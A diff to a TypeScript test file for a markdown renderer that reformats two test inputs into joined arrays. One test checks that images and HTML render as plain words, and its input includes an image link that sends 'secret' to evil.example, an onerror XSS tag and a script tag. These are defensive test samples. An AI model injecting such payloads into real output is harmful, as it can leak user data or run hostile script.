@@ -11,8 +11,14 @@ const blocks = (text: string) => [...(show(text).firstElementChild?.children ?? 
 
 describe('markdown of an answer', () => {
   it('is paragraphs, headings, lists, tables, code and quotes', () => {
-    const text =
-      '# Head\nOne **two *three*** `four`\nfive\n\n- a\n- b\n  goes on\n\n2. x\n3. y\n\n```js\nlet a = "<b>"\n```\n\n| A | B |\n|---|---|\n| 1 | **2** |\n\n> said'
+    const text = [
+      '# Head\nOne **two *three*** `four`\nfive',
+      '- a\n- b\n  goes on',
+      '2. x\n3. y',
+      '```js\nlet a = "<b>"\n```',
+      '| A | B |\n|---|---|\n| 1 | **2** |',
+      '> said',
+    ].join('\n\n')
     expect(blocks(text)).toEqual(['H3', 'P', 'UL', 'OL', 'PRE', 'DIV', 'BLOCKQUOTE'])
     const shown = show(text)
     expect(shown.querySelector('p')?.textContent).toBe('One two three four\nfive')
@@ -56,7 +62,13 @@ describe('markdown of an answer', () => {
 
   it('has no images and no HTML: they are words', () => {
     const shown = show(
-      '![x](https://evil.example/?q=secret)\n<img src=x onerror=alert(1)><script>alert(1)</script>\n[![i](https://evil.example/i)](https://evil.example/)\n\n<style>p{color:red}</style>\n\n![r]\n\n[r]: https://evil.example/r',
+      [
+        '![x](https://evil.example/?q=secret)',
+        '<img src=x onerror=alert(1)><script>alert(1)</script>',
+        '[![i](https://evil.example/i)](https://evil.example/)\n',
+        '<style>p{color:red}</style>\n',
+        '![r]\n\n[r]: https://evil.example/r',
+      ].join('\n'),
     )
     expect(shown.querySelectorAll('img,script,style')).toHaveLength(0)
     expect(shown.innerHTML).not.toMatch(/secret|evil\.example\/[ir]/)
